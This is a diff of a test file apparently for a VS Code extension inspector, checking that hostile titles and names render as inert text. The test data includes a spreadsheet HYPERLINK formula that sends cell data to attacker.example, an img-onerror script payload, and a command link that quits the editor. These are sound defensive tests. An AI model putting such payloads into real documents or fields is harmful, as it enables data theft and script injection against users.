@@ -33,7 +33,7 @@ describe("hostile titles and names in the inspector in VS Code", function () {
   it("are text in the matrix, the reasons, the fields and the tab", async () => {
     const { workbench } = vscode();
     await workbench.page.getByRole("tab", { name: /^Access of Bobby <b>Tables<\/b>/ }).waitFor();
-    const title = view.frame.getByRole("gridcell", { name: /^9016 =HYPERLINK/ });
+    const title = view.frame.getByRole("rowheader", { name: /^9016 =HYPERLINK/ });
     assert.equal(await title.innerText(), '9016 =HYPERLINK("https://attacker.example/?q="&A1,"Invoice") <img src=x onerror=alert(1)> **urgent** [open](command:workbench.action.quit) txt.exe');
     await view.cell({ case: "9016" }, "owner").click();
     await view.reasons.getByText(/^Bobby <b>Tables<\/b> .* on 9016 =HYPERLINK\(.*<img src=x onerror=alert\(1\)>/).waitFor();
@@ -46,7 +46,7 @@ describe("hostile titles and names in the inspector in VS Code", function () {
   it("are all shown", async () => {
     await vscode().workbench.page.setViewportSize({ width: 1400, height: 1500 }); // room for every row
     await view.frame.waitForFunction(() => {
-      const cells = [...document.querySelectorAll("[role=gridcell]")].map((cell) => cell.textContent);
+      const cells = [...document.querySelectorAll("[role=rowheader], [role=gridcell]")].map((cell) => cell.textContent);
       return cells.filter((text) => text?.startsWith("90")).length === 46 && !cells.includes("?"); // every entry is known
     });
     shown = await view.drawn();
